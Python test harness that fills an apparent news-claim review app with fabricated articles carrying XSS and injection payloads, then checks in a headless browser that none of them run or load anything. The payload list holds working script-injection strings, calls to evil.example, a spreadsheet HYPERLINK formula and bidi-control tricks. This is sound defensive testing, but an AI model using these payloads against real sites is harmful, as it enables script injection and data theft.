"""Hostile articles through every page of the desk in a real browser: nothing in them may run, load or mislead."""

from __future__ import annotations

import argparse
import shutil
from collections import Counter
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

from playwright.sync_api import Page, sync_playwright

from benchmarks.review_serving import BASE, serving
from extract.claims import extract_claims
from extract.model import Article, Claim, Snapshot
from store import open_store
from store.events import link_events
from store.warc import WarcArchive

AT = datetime(2026, 11, 2, 9, tzinfo=UTC)
#: What would leave a trace where it ran; each tries one way in. The first slot is filled by a number.
_PAYLOADS = (
    "<script>window.owned={0}</script>",
    "<img src=x onerror=window.owned={0}>",
    "<svg onload=window.owned={0}></svg>",
    '"><script>window.owned={0}</script>',
    "'-(window.owned={0})-'",
    "</textarea><script>window.owned={0}</script>",
    "</title><script>window.owned={0}</script>",
    "<iframe srcdoc='<script>parent.owned={0}</script>'></iframe>",
    "<a href=javascript:window.owned={0}>jobs</a>",
    "<style>@import url(https://evil.example/{0}.css);</style>",
    "<link rel=stylesheet href=https://evil.example/{0}.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{0}'>",
    "<base href=https://evil.example/{0}/>",
    "<form action=https://evil.example/{0}><button id=saved>All saved</button></form>",
    "<img name=getElementById src=https://evil.example/{0}.png>",
    "<math><mtext><img src=x onerror=window.owned={0}></mtext></math>",
    "<details open ontoggle=window.owned={0}>",
    "<input autofocus onfocus=window.owned={0}>",
    "{{{{ 7 * {0} }}}} {{% raw %}} ${{window.owned={0}}}",
    "<!--><script>window.owned={0}</script>-->",
    "]]><script>window.owned={0}</script>",
    "&lt;script&gt;window.owned={0}&lt;/script&gt;",
    "\u202egro.elpmaxe\u202c \u2066left\u2069 \u200f{0}",
    "\u0000\u0007\u001b[31m\u001b]0;owned {0}\u0007\u2028\u2029\ufeff",
    "a\u0300\u0301\u0302\u0303\u0304" * 60 + " {0}",
    "A" * 40_000 + " {0}",
    "\U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467 {0}",
    "__proto__ constructor toString {0}",
    "%3Cscript%3Ewindow.owned={0}%3C/script%3E",
    '=HYPERLINK("https://evil.example/{0}","jobs")',
)
_ADDRESSES = ("javascript:window.owned=1", "data:text/html,<script>window.owned=1</script>", "//evil.example/a",
              "https://ledger.example/\"><script>window.owned=1</script>")  # fmt: skip


def hostile(folder: Path, options: argparse.Namespace) -> bool:
    """Show each article on every page; True when nothing ran, was refused by the policy, or asked another host."""
    db = folder / "hostile.db"
    claims = make_hostile(db, options.articles)
    with serving(db, "--second-share", "0") as desk, sync_playwright() as play:
        browser = play.chromium.launch(executable_path=shutil.which("chromium"), args=["--no-sandbox", "--disable-gpu"])
        context = browser.new_context()
        page = context.new_page()
        wrongs = watch(page, desk.origin)
        page.goto(desk.link)
        page.wait_for_selector("button.line")
        for path in ("/statistics", "/accuracy", "?state=all", ""):
            page.goto(desk.origin + BASE + path)
            page.wait_for_timeout(50)
        seen = sum(show_hostile(page, desk.origin, claim, wrongs) for claim in claims)
        browser.close()
    print(f"{len(claims)} claims of {options.articles} hostile articles: {seen} shown letter by letter")
    print(f"{sum(wrongs.values())} scripts run, violations of the policy, errors, dialogs or outside requests")
    for wrong, times in wrongs.most_common(8):
        print(f"  {times} × {wrong[:160]}")
    return not wrongs and seen == len(claims)


def watch(page: Page, origin: str) -> Counter[str]:
    """What a page does that it should not, counted from now on."""
    wrongs: Counter[str] = Counter()
    page.on("console", lambda each: wrongs.update([f"console: {each.text}"]) if each.type == "error" else None)
    page.on("pageerror", lambda error: wrongs.update([f"error: {error}"]))
    page.on("dialog", lambda each: (wrongs.update([f"dialog: {each.message}"]), each.dismiss()))
    page.on("request", lambda each: None if each.url.startswith(origin) else wrongs.update([f"asked {each.url}"]))
    page.expose_function("violated", lambda words: wrongs.update([f"policy: {words}"]))
    page.add_init_script(
        "addEventListener('securitypolicyviolation', (e) => violated(e.violatedDirective + ' ' + e.blockedURI));"
    )
    return wrongs


def show_hostile(page: Page, origin: str, claim: Claim, wrongs: Counter[str]) -> bool:
    """Open a claim by its address, correct it without saving; whether its words stand there as text alone."""
    page.goto(f"{origin}{BASE}/claim/{claim.id}")
    page.wait_for_selector("#text")
    found = page.evaluate("""() => ({
        text: [...document.querySelectorAll("#text [data-start]")].map((each) => each.textContent).join(""),
        elements: document.querySelectorAll("#text :not(p, h2, mark, span)").length,
        foreign: document.querySelectorAll("main :is(script, style, iframe, img, link, svg, form, base, meta)").length,
        links: [...document.querySelectorAll("main a")].map((each) => each.protocol),
        owned: window.owned || null,
    })""")
    page.keyboard.press("c")
    page.wait_for_selector(".correct")
    for trouble in (
        found["owned"] and f"ran: {found['owned']}",
        (found["elements"] or found["foreign"]) and "an element out of an article",
        set(found["links"]) - {"http:", "https:"} and f"a link to {found['links']}",
        page.evaluate("window.owned || null") and "ran in the correction",
    ):
        if trouble:
            wrongs.update([str(trouble)])
    return bool(found["text"] == claim.evidence[0].text or claim.evidence[0].text in found["text"])


def make_hostile(db: Path, articles: int) -> list[Claim]:
    """A store with a claim of each of so many articles, a payload in title, byline, company, sentence and outlet."""
    claims: list[Claim] = []
    with open_store(db) as store:
        run = store.start_run("trial", [], "0", {}, AT)
        with WarcArchive(store.archive_folder, prefix="hostile") as archive:
            for number in range(articles):
                payload = _PAYLOADS[number % len(_PAYLOADS)].format(number)
                address = f"https://ledger.example/{number}"
                article = Article.of(
                    url=address if number % 3 else f"{_ADDRESSES[number // 3 % len(_ADDRESSES)]}#{number}",
                    outlet="ledger",
                    title=f"Kestrel Foods {payload} cuts jobs".replace("\n", " "),
                    byline=payload[:400],
                    body=f"Before it {payload} stands.\nKestrel Foods will cut 300 jobs, {payload} it said on Monday.",
                    published_at=AT,
                )
                plain = Article.of(
                    url=article.url,
                    outlet="ledger",
                    title="Kestrel Foods cuts jobs",
                    body="Kestrel Foods will cut 300 jobs, it said on Monday.",
                    published_at=AT,
                )
                claim = _moved(extract_claims(plain)[0], article, payload)
                snapshot = Snapshot.of(
                    url=address, final_url=address, fetched_at=AT, status=200,
                    headers=(("content-type", "text/html"),), body=f"<p>{number}".encode(),
                    context=(("outlet", "ledger"), ("kind", "page")),
                )  # fmt: skip
                kept = store.save_snapshot(run, snapshot, archive.append(snapshot))
                store.save_extraction(run, kept, article, (claim,))
                claims.append(claim)
        link_events(store)
    return claims


def _moved(claim: Claim, article: Article, payload: str) -> Claim:
    """A claim of the plain article as one of the hostile: its sentence and words found there."""
    start = article.text.index("Kestrel Foods will cut")
    sentence = article.span(start, len(article.text))
    cut = article.text.index("cut", start)
    count = article.text.index("300", start)
    return replace(
        claim,
        id=f"{int(article.text_sha256[:15], 16):016x}",
        article_url=article.url,
        company=f"Kestrel {payload}"[:300],
        evidence=(sentence,),
        anchor=article.span(cut, cut + 3),
        spans=tuple(
            replace(each, span=article.span(count, count + 3)) for each in claim.spans if each.field == "count"
        ),
        rules=(*claim.rules, f"made.up{payload[:60]}"),
    )
